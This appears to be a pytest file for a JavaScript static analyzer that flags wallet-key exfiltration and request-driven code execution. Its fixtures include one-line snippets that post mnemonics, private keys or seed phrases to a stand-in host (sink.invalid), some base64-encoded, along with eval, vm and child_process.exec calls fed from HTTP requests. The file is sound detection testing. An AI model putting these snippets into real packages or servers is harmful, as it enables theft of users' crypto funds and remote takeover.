"""Keys of wallets and requests that are answered, by the names of what holds them."""

import pytest

from tests.analysis.languages.javascript.reading import facts

HEAD = "const { Wallet } = require('ethers'), axios = require('axios'), vm = require('vm');\n"
URL = "'https://sink.invalid/x'"


def named(source: str, api: str) -> list[str | None]:
    return [use.argument for use in facts(HEAD + source).uses if use.api == api]


@pytest.mark.parametrize(
    "source",
    [
        f"exports.f = mnemonic => fetch({URL}, {{method: 'POST', body: JSON.stringify({{m: mnemonic}})}});",
        f"exports.f = privateKey => g(privateKey); const g = k => axios.post({URL}, {{k}});",
        f"exports.f = w => axios.post({URL}, {{k: w.privateKey}});",
        f"exports.f = secretKey => {{ const t = Buffer.from(secretKey).toString('base64'); fetch({URL}, {{headers: {{a: t.slice(0, 9)}}}}); }};",
        f"exports.f = seedPhrase => {{ const r = require('https').request({URL}); r.write(seedPhrase); r.end(); }};",
    ],
)
def test_a_key_that_is_sent_is_told(source: str) -> None:
    assert ["https://sink.invalid/x"] == named(source, "wallet-key-sent")


@pytest.mark.parametrize(
    "source",
    [
        f"exports.f = privateKey => {{ const s = new Wallet(privateKey).sign('x'); axios.post({URL}, {{s}}); }};",
        f"exports.f = secretKey => {{ const h = require('crypto').createHmac('sha256', secretKey).update('a').digest('hex'); fetch({URL}, {{headers: {{h}}}}); }};",
        "exports.f = (mnemonic, url) => axios.post(url, {mnemonic});",
        f"exports.f = publicKey => axios.post({URL}, {{publicKey}});",
    ],
    ids=["signed", "digested", "to its user's own", "public"],
)
def test_what_is_made_with_a_key_is_not(source: str) -> None:
    assert [] == named(source, "wallet-key-sent")


def test_keys_of_other_things_are_none() -> None:
    source = f"exports.f = privateKey => fetch({URL}, {{headers: {{authorization: privateKey}}}});"
    assert [] == [use for use in facts(source).uses if use.api == "wallet-key-sent"]


@pytest.mark.parametrize(
    ("source", "times"),
    [
        (
            "exports.f = (req, res) => vm.runInThisContext(Buffer.from(req.headers['x'], 'base64').toString());",
            1,
        ),
        ("exports.f = (req, res, next) => eval(req.query.c);", 1),
        ("exports.f = (req, res) => res.end(new Function('d', 'return d')(req.query));", 0),
        ("exports.f = req => eval(req.query.c);", 0),
        ("exports.f = (req, res) => eval(req.body);", 0),
        ("exports.f = (req, res) => require('child_process').exec(req.query.c, f);", 1),
        ("exports.f = (req, res) => require('child_process').exec('git log ' + req.query.c, f);", 0),
        ("exports.f = (req, res) => require('child_process').execFile('git', [req.query.c], f);", 0),
    ],
)
def test_code_that_a_request_brings(source: str, times: int) -> None:
    assert times == len(named(source, "told-by-request"))


@pytest.mark.parametrize(
    "source",
    [
        f"exports.fromMnemonic = words => axios.post({URL}, {{words}});",
        f"class A {{ static importPrivateKey(k) {{ axios.post({URL}, {{k}}); }} }}",
        f"function mnemonicToSeedSync(words) {{ axios.post({URL}, words.normalize().toString()); axios.post({URL}, {{words}}); }}",
    ],
    ids=["a function", "a method", "a derivation"],
)
def test_a_function_tells_by_its_name_that_it_is_given_a_key(source: str) -> None:
    assert ["https://sink.invalid/x"] == named(source, "wallet-key-sent")


@pytest.mark.parametrize(
    "source",
    [
        f"exports.fromAddress = words => axios.post({URL}, {{words}});",
        f"exports.fromMnemonic = (words, options) => axios.post({URL}, {{options}});",
    ],
    ids=["an address", "the second parameter"],
)
def test_other_parameters_are_no_keys(source: str) -> None:
    assert [] == named(source, "wallet-key-sent")
